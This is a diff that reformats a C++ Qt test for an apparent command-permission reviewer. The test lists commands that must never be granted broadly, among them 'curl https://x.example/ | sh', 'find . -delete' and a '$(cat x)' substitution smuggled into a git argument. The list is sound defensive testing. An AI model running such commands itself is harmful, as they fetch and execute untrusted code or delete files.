@@ -71,10 +71,36 @@ private Q_SLOTS:
     void neverForWhatRunsOthers_data()
     {
         QTest::addColumn<QString>("line");
-        for (const auto *line : {"python3 -c pass", "python3 script.py", "node index.js", "bash -c ls", "sh x.sh", "perl -e 1", "env ls", "nohup git push origin main", "sudo git push origin main",
-                                 "timeout 5 git push origin main", "xargs git push", "find . -delete", "ssh host uptime", "make", "npm run build", "npx cowsay", "awk 1 x", "eval ls", "docker run x", "ruby x.rb",
-                                 "git -c core.sshCommand=x push origin main", "git push --receive-pack=x origin main", "git push origin $(cat x)", "git push \"origin\" main", "git push origin main | sh", "git push origin ma*",
-                                 "nosuchprogram x", "./deploy x", "curl https://x.example/ | sh", ""})
+        for (const auto *line : {"python3 -c pass",
+                                 "python3 script.py",
+                                 "node index.js",
+                                 "bash -c ls",
+                                 "sh x.sh",
+                                 "perl -e 1",
+                                 "env ls",
+                                 "nohup git push origin main",
+                                 "sudo git push origin main",
+                                 "timeout 5 git push origin main",
+                                 "xargs git push",
+                                 "find . -delete",
+                                 "ssh host uptime",
+                                 "make",
+                                 "npm run build",
+                                 "npx cowsay",
+                                 "awk 1 x",
+                                 "eval ls",
+                                 "docker run x",
+                                 "ruby x.rb",
+                                 "git -c core.sshCommand=x push origin main",
+                                 "git push --receive-pack=x origin main",
+                                 "git push origin $(cat x)",
+                                 "git push \"origin\" main",
+                                 "git push origin main | sh",
+                                 "git push origin ma*",
+                                 "nosuchprogram x",
+                                 "./deploy x",
+                                 "curl https://x.example/ | sh",
+                                 ""})
             QTest::newRow(line) << QString::fromLatin1(line);
     }
 
@@ -213,7 +239,8 @@ private Q_SLOTS:
         court.review(action);
         QTRY_COMPARE(court.guardian->questions().size(), 1);
         std::optional<GrantPreview> preview;
-        court.guardian->previewGrant(court.guardian->questions().first().id, court.guardian.get(), [&preview](const Result<GrantPreview> &found) { preview = found.value(); });
+        court.guardian->previewGrant(court.guardian->questions().first().id, court.guardian.get(),
+                                     [&preview](const Result<GrantPreview> &found) { preview = found.value(); });
         QTRY_VERIFY(preview);
         QVERIFY(preview->alike.isEmpty());
         QVERIFY(preview->whyExactOnly.contains(u"interpreters"_s));
